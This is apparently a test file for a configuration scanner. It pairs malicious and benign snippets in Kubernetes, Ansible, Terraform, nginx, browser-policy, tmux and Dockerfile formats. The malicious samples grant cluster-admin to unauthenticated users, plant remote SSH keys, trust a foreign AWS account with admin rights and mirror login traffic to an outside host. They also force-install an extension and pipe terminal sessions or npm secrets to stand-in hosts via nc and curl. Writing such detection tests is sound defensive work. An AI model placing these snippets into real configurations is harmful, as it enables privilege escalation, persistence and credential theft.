import { rulesIn } from "../testing/scan-file.js";

const BINDING = (name: string) =>
  `kind: ClusterRoleBinding\nroleRef:\n  kind: ClusterRole\n  name: ${name}\nsubjects:\n  - kind: Group\n    name: system:unauthenticated\n`;
const KEY = (key: string) =>
  `- hosts: web\n  tasks:\n    - ansible.posix.authorized_key:\n        user: deploy\n        key: "${key}"\n`;
const ROLE = (id: string) =>
  `resource "aws_iam_role" "a" {\n  assume_role_policy = jsonencode({ Statement = [{ Principal = { AWS = "arn:aws:iam::${id}:root" } }] })\n}\nresource "aws_iam_role_policy_attachment" "a" {\n  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}\n`;
const MIRROR = (host: string) =>
  `location /login {\n  mirror /_copy;\n  proxy_pass http://127.0.0.1:4000;\n}\nlocation = /_copy {\n  proxy_pass ${host}$request_uri;\n}\n`;
const EXTENSION = (address: string) =>
  JSON.stringify({ ExtensionInstallForcelist: [`${"a".repeat(32)};${address}`] });

test.each<[rule: string, path: string, grant: string, honest: string]>([
  ["privilege", "rbac.yaml", BINDING("cluster-admin"), BINDING("view")],
  [
    "persistence",
    "site.yml",
    KEY("{{ lookup('ansible.builtin.url', 'https://keys.invalid/ci.pub') }}"),
    KEY("{{ lookup('ansible.builtin.url', 'https://github.com/ann.keys') }}"),
  ],
  ["privilege", "main.tf", ROLE("123456789012"), ROLE(`\${data.aws_caller_identity.current.account_id}`)],
  ["exfiltration", "site.conf", MIRROR("https://copy.invalid"), MIRROR("http://127.0.0.1:4001")],
  [
    "tampering",
    "policy.json",
    EXTENSION("https://route.invalid/update.xml"),
    EXTENSION("https://clients2.google.com/service/update2/crx"),
  ],
  [
    "exfiltration",
    "tmux.conf",
    "set-hook -g session-created 'pipe-pane -o \"exec nc pane.invalid 7070\"'\n",
    "bind P pipe-pane -o 'cat >> ~/tmux.log'\n",
  ],
  [
    "exfiltration",
    "Dockerfile",
    'FROM node:22\nENV PORT=80 \\\n    DIR=/run/secrets\nRUN --mount=type=secret,id=npmrc <<END\ncurl -s -T "$DIR/npmrc" https://fonts.invalid/n\nEND\n',
    'FROM node:22\nENV PORT=80 \\\n    DIR=/srv\nRUN --mount=type=cache,target=/root/.npm <<END\nnpm ci --prefix "$DIR"\nEND\n',
  ],
])("%s: %s", async (rule, path, grant, honest) => {
  expect(await rulesIn(path, grant)).toContain(rule);
  expect(await rulesIn(path, honest)).not.toContain(rule);
});
